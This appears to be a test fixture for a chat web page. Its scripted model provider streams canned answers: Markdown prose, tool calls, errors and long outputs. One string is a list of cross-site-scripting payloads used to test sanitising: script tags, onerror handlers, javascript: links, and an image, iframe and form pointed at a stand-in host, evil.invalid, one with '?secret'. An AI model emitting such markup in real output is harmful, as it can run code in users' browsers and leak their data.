"""What the scripted provider answers in the tests of the page: a key is the message that asks for it."""

import json
import time

from lib.tools import OPENAI, body
from lib.upstream import DONE, answer, chunk

PROSE = """## Reading the log while it is written

SQLite's **write-ahead log** lets one writer and any number of readers work side by side. Three things matter:

1. Readers see the last commit that was complete when they began.
2. The writer appends; nobody waits for it.
3. A *checkpoint* moves pages back, and is put off while somebody reads.

```python
import sqlite3

def stuck(path: str, minutes: int = 5) -> list[tuple]:
    \"\"\"Turns that have said nothing for a while.\"\"\"
    with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as db:
        return db.execute("SELECT * FROM v_stuck WHERE idle_s > ?", (60 * minutes,)).fetchall()
```

| View | Question | Cost |
| :--- | :--- | ---: |
| `v_turns` | what ran, and how it ended | 0.4 ms |
| `v_stuck` | what stands still | 0.2 ms |
| `v_usage` | who used how much | 3.1 ms |

> Use `mode=ro`: a reader that opens the file for writing may take part in a checkpoint.

See [the documentation](https://www.sqlite.org/wal.html) for the rest.
"""

HOSTILE = """<script>window.taken = 1</script><img src=x onerror="window.taken = 2"> <svg onload="window.taken = 3">

[a link](javascript:window.taken=4) [another](JaVaScRiPt:window.taken=5) [data](data:text/html,<script>window.taken=6</script>)
![picture](https://evil.invalid/leak.png?secret) ![x](javascript:window.taken=7 "t")
<a href="javascript:window.taken=8">raw</a> <iframe src="https://evil.invalid/"></iframe> <style>*{display:none}</style>
<https://evil.invalid/"onmouseover="window.taken=9> [ref][1] <form action="https://evil.invalid/"><input name=q></form>

[1]: javascript:window.taken=10

```html
</code></pre><script>window.taken = 11</script>
```

``` "><img src=x onerror=window.taken=12>
x
```

| a | <img src=x onerror=window.taken=13> |
| - | - |
| half | a ta"""


def paced(n, every):
    """n numbered words, a chunk each, with pauses: an answer that is seen growing."""
    def script(x):
        x.head()
        for i in range(n):
            x.piece(chunk(f"w{i:04d} " + ("\n\n" if i % 40 == 39 else "")))
            time.sleep(every)
        x.piece(chunk(finish="stop", usage=(12, n)) + DONE)
        x.end()
    return script


def pieces(text, size):
    """This text in pieces, slowly enough that each is drawn."""
    def script(x):
        x.head()
        for i in range(0, len(text), size):
            x.piece(chunk(text[i:i + size]))
            time.sleep(0.004)
        x.piece(chunk(finish="stop", usage=(21, len(text) // 4)) + DONE)
        x.end()
    return script


def fails(x):
    doc = json.dumps({"error": {"message": "The model is overloaded, please come back later", "type": "overloaded_error"}}).encode()
    x.head(529, {"Content-Type": "application/json", "retry-after": "0"}, length=len(doc))
    x.send(doc)


def markdown_of(n):
    """n chunks of Markdown of all kinds, about 40 bytes each: 20 of them are a block."""
    out = []
    for i in range(n):
        k, block = i % 20, (i // 20) % 4
        if block == 0:
            out.append(f"Sentence {i} of a paragraph with **bold** text. " + ("\n\n" if k == 19 else ""))
        elif block == 1:
            out.append(f"- item {i} with `code` and a [link](https://a.example/{i})\n" + ("\n" if k == 19 else ""))
        elif block == 2:
            out.append(("```js\n" if k == 0 else "") + f"const value{i} = compute({i}, \"text\"); // why\n" + ("```\n\n" if k == 19 else ""))
        else:
            out.append(("| a | b |\n| - | - |\n" if k == 0 else "") + f"| cell {i} | *value* {i} |\n" + ("\n" if k == 19 else ""))
    return out


def steps(*scripts):
    """A turn's steps, one after the other, however often the turn is asked for."""
    def script(x):
        messages = x.json["messages"]
        last = max(i for i, m in enumerate(messages) if m["role"] == "user")
        scripts[sum(m["role"] == "assistant" for m in messages[last:])](x)
    return script


def register(up):
    up.on("show markdown", pieces(PROSE, 7))
    up.on("show tools", steps(
          OPENAI.calls(("c1", "kit__echo", '{"text": "ls -la /srv/docs"}'), ("c2", "kit__fails", '{"text": "no such file"}'),
                       say="I look at the folder first.\n\n", thinking="The user wants to know what is in the folder. I list it, then I read."),
          OPENAI.calls(("c3", "kit__echo", '{"text": "wc -l notes.md"}'), say="Now the file itself, **carefully**:\n\n"),
          OPENAI.text("It has 42 lines. 😀 Anything else?")))
    up.on("ask me", steps(OPENAI.calls(("p1", "asks__write", '{"path": "notes.md", "text": "hello"}'), say="I would like to write that down."),
          OPENAI.text("Thank you.")))
    up.on("ask a question", steps(OPENAI.calls(("q1", "ask_user", json.dumps({"questions": [
        {"question": "Which parts?", "options": [{"label": "Text", "description": "what was said"}, {"label": "Tools"}], "multiple": True},
        {"question": "And what else?", "options": [], "free_text": True}]})), say="Before I begin:"), OPENAI.text("Thank you.")))
    up.on("hostile", pieces(HOSTILE, 11))
    up.on("one line", body(answer(*["word [x](javascript:window.taken=1) <b>" * 25] * 205, usage=(3, 5))))
    up.on("provider fails", fails)
    up.on("grow", paced(600, 0.004))
    up.on("grow slowly", paced(1500, 0.006))
    up.on("grow until stopped", paced(9000, 0.02))
    up.on("big", body(answer(*markdown_of(20000), usage=(3, 5))))
    return up
